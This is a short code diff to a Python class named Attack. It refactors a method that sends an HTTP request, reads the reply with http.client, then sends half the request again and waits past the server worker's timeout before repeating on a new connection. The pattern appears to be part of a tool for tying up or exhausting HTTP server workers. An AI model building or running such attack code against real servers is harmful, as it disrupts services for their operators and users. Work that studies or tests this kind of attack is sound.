@@ -121,19 +121,12 @@ class Attack:
 
     def _follower(self, s: socket.socket) -> None:
         s.sendall(self.call)
-        answer = b""
-        while b"\r\n\r\n" not in answer:
-            chunk = s.recv(65536)
-            if not chunk:
-                return
-            answer += chunk
-        head, _, rest = answer.partition(b"\r\n\r\n")
-        length = next(int(v) for k, _, v in (x.partition(b":") for x in head.split(b"\r\n")) if k.lower() == b"content-length")
-        while len(rest) < length:
-            chunk = s.recv(65536)
-            if not chunk:
-                return
-            rest += chunk
+        answer = http.client.HTTPResponse(s)
+        try:
+            answer.begin()
+            answer.read()
+        except http.client.HTTPException:
+            return  # a reply cut short or malformed: open another
         s.sendall(self.call[: len(self.call) // 2])
         self.stop.wait(0.2)  # past the worker's wait for it; then again on a new connection
 
